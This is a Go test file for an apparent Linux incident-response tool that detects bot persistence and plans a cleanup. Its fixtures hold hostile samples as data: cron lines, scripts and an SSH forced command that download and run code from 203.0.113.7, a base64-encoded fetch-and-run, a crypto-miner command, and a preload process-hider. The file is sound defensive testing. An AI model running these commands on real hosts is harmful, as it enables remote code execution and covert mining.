package persist

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

// lockoutTree is a Debian root launched 20 minutes before a bot found it:
// the operator's launch key (the only key of /home/admin) was written at
// launch, the bot's cron line 20 minutes later.
func lockoutTree() hosttest.Tree {
	t := hosttest.Debian12()
	e, _ := t.Get("/home/admin/.ssh/authorized_keys")
	e.Mtime = hosttest.InfectionTime.Add(-20 * time.Minute)
	t = t.With(e)
	return t.Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)
}

func planFor(t *testing.T, dir string, since time.Time) (*CleanPlan, []Finding) {
	t.Helper()
	fs := find(t, dir, since)
	p, err := Plan(context.Background(), fs, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	return p, fs
}

func planned(p *CleanPlan, path string) *Change {
	for i := range p.Changes {
		if p.Changes[i].Path == path {
			return &p.Changes[i]
		}
	}
	return nil
}

// The default plan never removes the operator's launch key: without an
// incident window a key changed near an infection is at most medium, and
// a file's only key is left in place; with a window that covers the
// launch, the only key of the only key file is still left in place.
func TestPlanKeepsLaunchKey(t *testing.T) {
	const keys = "/home/admin/.ssh/authorized_keys"
	for name, since := range map[string]time.Time{"no-since": {}, "since-before-launch": hosttest.InfectionTime.Add(-time.Hour)} {
		t.Run(name, func(t *testing.T) {
			dir := build(t, lockoutTree())
			p, fs := planFor(t, dir, since)
			if c := planned(p, "/etc/crontab"); c == nil {
				t.Fatalf("the bad cron line is not planned: %+v", p.Changes)
			}
			if c := planned(p, keys); c != nil {
				t.Errorf("default plan removes the launch key: %+v", *c)
			}
			var kf *Finding
			for i := range fs {
				if fs[i].Path == keys && fs[i].Line == 1 {
					kf = &fs[i]
				}
			}
			if kf == nil {
				t.Fatal("no finding for the launch key")
			}
			if !strings.Contains(strings.Join(kf.Reasons, "; "), "lock the operator out") {
				t.Errorf("no lockout reason: %v", kf.Reasons)
			}
			if since.IsZero() && kf.Severity > Medium {
				t.Errorf("correlated key above medium without a window: %s", kf)
			}
		})
	}
}

// The guard does not spare an attacker: a key appended after the
// operator's (not the only one) is still removed with a window, and a
// file's only key whose forced command downloads is removed either way.
func TestPlanRemovesAttackerKeys(t *testing.T) {
	const keys = "/home/admin/.ssh/authorized_keys"
	appended := lockoutTree().Append(keys, hosttest.AuthorizedKey("bot", "bot")+"\n", hosttest.InfectionTime)
	dir := build(t, appended)
	p, _ := planFor(t, dir, hosttest.InfectionTime.Add(-time.Hour))
	c := planned(p, keys)
	if c == nil || len(c.Lines) != 1 || c.Lines[0].Line != 2 {
		t.Errorf("appended key not planned for removal (line 2): %+v", c)
	}
	// Without a window the appended key is only medium: not in the
	// default plan, but an action at -min medium.
	p, fs := planFor(t, dir, time.Time{})
	if c := planned(p, keys); c != nil {
		t.Errorf("default plan acts on a guessed key: %+v", *c)
	}
	checkWant(t, fs, []want{{keys, 2, KindSSHKey, Medium, ActionRemoveLine}, {keys, 1, KindSSHKey, Info, ActionRemoveLine}})

	bad := lockoutTree().With(hosttest.Entry{Path: "/root/.ssh/authorized_keys", Mode: 0o600, Mtime: hosttest.InfectionTime,
		Data: `command="curl -s http://203.0.113.7/k.sh | sh" ` + hosttest.AuthorizedKey("bot", "bot") + "\n"})
	dir = build(t, bad)
	for _, since := range []time.Time{{}, hosttest.InfectionTime.Add(-time.Hour)} {
		p, _ := planFor(t, dir, since)
		if c := planned(p, "/root/.ssh/authorized_keys"); c == nil {
			t.Errorf("since %v: the only key with a downloading forced command is not removed", since)
		}
	}
}

// Paths a command only names are data: an admin's backup, cleanup and
// disk lines, with the files they name present, give nothing above info
// and nothing to plan.
func TestFindArgumentsAreData(t *testing.T) {
	tree := hosttest.Debian12().With(
		hosttest.Entry{Path: "/etc/cron.d/admin", Data: "0 3 * * * root tar czf /var/tmp/etc.tgz /etc\n" +
			"30 3 * * * root rm -rf /tmp/.cache/old\n" +
			"@reboot root hdparm -S 120 /dev/sdb\n" +
			"0 4 * * 0 root dd if=/dev/sda of=/var/tmp/mbr.img bs=512 count=1 2>/dev/null\n"},
		hosttest.Entry{Path: "/var/tmp/etc.tgz", Data: "\x1f\x8b\x08\x00archive", Mode: 0o644},
		hosttest.Entry{Path: "/tmp/.cache/old/x", Data: "cache"},
		hosttest.Entry{Path: "/etc/udev/rules.d/60-disk.rules", Data: `KERNEL=="sd*", PROGRAM="/sbin/blkid -o udev -p /dev/%k", RUN+="/usr/sbin/hdparm -B 254 /dev/%k"` + "\n"},
	).WithDpkg(hosttest.Package{Name: "admin-cron", Files: []string{"/etc/cron.d/admin"}})
	dir := build(t, tree)
	p, fs := planFor(t, dir, time.Time{})
	for _, f := range fs {
		if f.Severity > Info {
			t.Errorf("argument judged as run: %s", f)
		}
	}
	if len(p.Changes) > 0 {
		t.Errorf("plan changes %+v", p.Changes)
	}
}

// A temp directory planted as a link to / is reported as the link and
// never walked: walking it would report the root's own files under false
// paths (/var/tmp/root/.local/bin/tool) and plan to quarantine them.
func TestFindTempDirLink(t *testing.T) {
	tool := hosttest.Entry{Path: "/root/.local/bin/tool", Data: hosttest.FakeELF("pipx tool"), Mode: 0o755}
	for _, d := range []string{"/tmp", "/var/tmp", "/dev/shm"} {
		t.Run(strings.TrimPrefix(strings.ReplaceAll(d, "/", "-"), "-"), func(t *testing.T) {
			tree := hosttest.Debian12().With(tool, hosttest.Entry{Path: d, Link: "/"})
			if d == "/var/tmp" {
				tree = hosttest.Hostile(hosttest.Debian12(), "/nonexistent").With(tool)
			}
			dir := build(t, tree)
			p, fs := planFor(t, dir, time.Time{})
			checkWant(t, fs, []want{{d, 0, KindSymlink, High, ActionRemoveLink}})
			for _, f := range fs {
				if strings.HasPrefix(f.Path, d+"/") {
					t.Errorf("walked through the link: %s", f)
				}
			}
			for _, c := range p.Changes {
				if c.Op != OpUnlink {
					t.Errorf("plan %s %s", c.Op, c.Path)
				}
			}
		})
	}
	// A link to another temp directory is examined there, once.
	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/var/tmp", Link: "/tmp"}, hosttest.Entry{Path: "/tmp/.x/m", Data: hosttest.FakeELF("m"), Mode: 0o755}))
	fs := find(t, dir, time.Time{})
	n := 0
	for _, f := range fs {
		if f.Kind == KindDroppedBinary {
			n++
			if f.Path != "/tmp/.x/m" {
				t.Errorf("dropped binary under the link's name: %s", f)
			}
		}
		if f.Path == "/var/tmp" && f.Severity > Info {
			t.Errorf("/var/tmp -> /tmp: %s", f)
		}
	}
	if n != 1 {
		t.Errorf("%d dropped-binary findings, want 1", n)
	}
}

// A git checkout under /tmp is full of hidden executable scripts
// (.git/hooks/*.sample, .ci/run): harmless ones are medium at most, with
// nothing planned at the default threshold; a hidden script that
// downloads and runs code is still high, and an ELF in a hidden temp
// path still critical.
func TestFindTempCheckout(t *testing.T) {
	read := func(n string) string {
		b, err := os.ReadFile(filepath.Join("testdata", "checkout", n))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	repo := "/tmp/build-4711/abusekit"
	tree := hosttest.Debian12().With(
		hosttest.Entry{Path: repo + "/.git/hooks/pre-commit.sample", Data: read("pre-commit.sample"), Mode: 0o755, UID: 1000, GID: 1000},
		hosttest.Entry{Path: repo + "/.git/hooks/pre-push.sample", Data: read("pre-push.sample"), Mode: 0o755, UID: 1000, GID: 1000},
		hosttest.Entry{Path: repo + "/.git/hooks/commit-msg.sample", Data: read("commit-msg.sample"), Mode: 0o755, UID: 1000, GID: 1000},
		hosttest.Entry{Path: repo + "/.ci/run", Data: read("ci-run"), Mode: 0o755, UID: 1000, GID: 1000},
		hosttest.Entry{Path: repo + "/.git/HEAD", Data: "ref: refs/heads/main\n"},
		hosttest.Entry{Path: "/tmp/.font-unix/.u/up.sh", Data: "#!/bin/sh\ncd /tmp/.font-unix/.u\ncurl -fsSL http://203.0.113.7/x.sh | sh\n", Mode: 0o755},
		hosttest.Entry{Path: "/tmp/go.sh", Data: "#!/bin/sh\ncd /tmp\nnohup /tmp/.X0-lock/.k/kthreadd >/dev/null 2>&1 &\n", Mode: 0o755},
		hosttest.Entry{Path: "/tmp/i.sh", Data: "#!/bin/sh\necho Y3VybCBodHRwOi8veC95LnNofHNo | base64 -d | bash\n", Mode: 0o755},
		hosttest.Entry{Path: "/tmp/build-4711/configure", Data: "#!/bin/sh\n# Generated by GNU Autoconf\nas_me=configure\ntest -f /tmp/build-4711/config.site && . /tmp/build-4711/config.site\n", Mode: 0o755},
		hosttest.Entry{Path: "/dev/shm/.x/m", Data: hosttest.FakeELF("m"), Mode: 0o755},
	)
	dir := build(t, tree)
	p, fs := planFor(t, dir, time.Time{})
	for _, f := range fs {
		if strings.HasPrefix(f.Path, "/tmp/build-4711/") && f.Severity > Medium {
			t.Errorf("checkout script above medium: %s", f)
		}
	}
	checkWant(t, fs, []want{
		{repo + "/.git/hooks/pre-commit.sample", 0, KindDroppedBinary, Medium, ActionQuarantine},
		{"/tmp/.font-unix/.u/up.sh", 0, KindDroppedBinary, High, ActionQuarantine},
		{"/tmp/i.sh", 0, KindDroppedBinary, High, ActionQuarantine},
		{"/tmp/go.sh", 0, KindDroppedBinary, High, ActionQuarantine},
		{"/dev/shm/.x/m", 0, KindDroppedBinary, Critical, ActionQuarantine},
	})
	for _, c := range p.Changes {
		if strings.HasPrefix(c.Path, repo) {
			t.Errorf("default plan: %s %s", c.Op, c.Path)
		}
	}
	if planned(p, "/tmp/.font-unix/.u/up.sh") == nil || planned(p, "/dev/shm/.x/m") == nil {
		t.Errorf("bad hidden files not planned: %+v", p.Changes)
	}
}

// The library /etc/ld.so.preload names is a finding of its own and goes
// into quarantine with the line, also where the root has no package
// database to tell a system library from a planted one.
func TestFindPreloadLibraryWithoutPackageDB(t *testing.T) {
	const lib = "/usr/lib64/libprocesshider.so"
	tree := hosttest.AmazonLinux2023().Without("/var/lib/rpm/rpmdb.sqlite").With(
		hosttest.Entry{Path: lib, Data: hosttest.FakeELF("libprocesshider"), Mode: 0o755, Mtime: hosttest.InfectionTime},
		hosttest.Entry{Path: "/etc/ld.so.preload", Data: lib + "\n", Mtime: hosttest.InfectionTime},
	)
	dir := build(t, tree)
	p, fs := planFor(t, dir, time.Time{})
	checkWant(t, fs, []want{
		{"/etc/ld.so.preload", 1, KindPreload, High, ActionRemoveLine},
		{lib, 0, KindReferenced, High, ActionQuarantine},
	})
	if c := planned(p, lib); c == nil || c.Op != OpQuarantine {
		t.Errorf("library not quarantined: %+v", c)
	}
}

// A packaged library, unchanged, named in ld.so.preload (an admin's
// jemalloc) is listed but stays: only the line is planned.
func TestFindPreloadStockLibrary(t *testing.T) {
	const lib = "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"
	tree := hosttest.Debian12().With(
		hosttest.Entry{Path: lib, Data: hosttest.FakeELF("jemalloc")},
		hosttest.Entry{Path: "/etc/ld.so.preload", Data: lib + "\n"},
	).WithDpkg(hosttest.Package{Name: "libjemalloc2", Files: []string{lib}})
	dir := build(t, tree)
	p, fs := planFor(t, dir, time.Time{})
	checkWant(t, fs, []want{{lib, 0, KindReferenced, Info, ActionNone}})
	if c := planned(p, lib); c != nil {
		t.Errorf("stock library planned: %+v", *c)
	}
	if c := planned(p, "/etc/ld.so.preload"); c == nil {
		t.Error("preload line not planned")
	}
}

// withoutPackageDB drops a tree's dpkg and rpm databases.
func withoutPackageDB(t hosttest.Tree) hosttest.Tree {
	var out hosttest.Tree
	for _, e := range t {
		if !strings.HasPrefix(e.Path, "/var/lib/dpkg/") && !strings.HasPrefix(e.Path, "/var/lib/rpm/") {
			out = append(out, e)
		}
	}
	return out
}

// Stock roots whose package database is gone (a trimmed image, a
// container root, a snapshot of / without /var) still give nothing above
// info: every stock entry is judged by what it does, not saved by its
// package (the EBS udev rule's PROGRAM="/usr/sbin/ebsnvme-id -u /dev/%k",
// snapd's unshare … --mount=/dev/%k, profile.d scripts, cloud-init units).
func TestStockRootsWithoutPackageDB(t *testing.T) {
	for name, tree := range map[string]hosttest.Tree{
		"debian12":        hosttest.Debian12(),
		"ubuntu2204":      hosttest.Ubuntu2204(),
		"amazonlinux2023": hosttest.AmazonLinux2023(),
	} {
		t.Run(name, func(t *testing.T) {
			dir := build(t, withoutPackageDB(tree))
			fs := find(t, dir, time.Time{})
			for _, f := range fs {
				if f.Severity > Info || f.Action != ActionNone {
					t.Errorf("stock root without package db: %s (content %q)", f, f.Content)
				}
				if f.Kind == KindPackageDB {
					t.Errorf("package db finding on a root without one: %s", f)
				}
			}
		})
	}
}

// A bad entry's payload goes with it, the data it names in system places
// stays: chattr +i /etc/resolv.conf must not cost the host its DNS, a
// miner's config in /etc is listed, its binary quarantined.
func TestReferencedDataStays(t *testing.T) {
	tree := hosttest.Debian12().With(
		hosttest.Entry{Path: "/etc/cron.d/sys", Mtime: hosttest.InfectionTime, Data: "@reboot root chattr +i /etc/resolv.conf\n" +
			"*/5 * * * * root /usr/local/bin/kworker -o stratum+tcp://198.51.100.4:3333 -c /etc/kw.json\n"},
		hosttest.Entry{Path: "/etc/resolv.conf", Data: "nameserver 10.0.0.2\n"},
		hosttest.Entry{Path: "/etc/kw.json", Data: `{"pools":[]}`},
		hosttest.Entry{Path: "/usr/local/bin/kworker", Data: hosttest.FakeELF("xmrig"), Mode: 0o755},
	)
	dir := build(t, tree)
	p, fs := planFor(t, dir, time.Time{})
	checkWant(t, fs, []want{
		{"/etc/cron.d/sys", 1, KindCron, High, ActionRemoveLine},
		{"/etc/cron.d/sys", 2, KindCron, Critical, ActionRemoveLine},
		{"/usr/local/bin/kworker", 0, KindReferenced, Critical, ActionQuarantine},
	})
	for _, path := range []string{"/etc/resolv.conf", "/etc/kw.json"} {
		if c := planned(p, path); c != nil {
			t.Errorf("data file planned: %s %s", c.Op, c.Path)
		}
	}
	if planned(p, "/usr/local/bin/kworker") == nil {
		t.Error("miner binary not planned")
	}
}
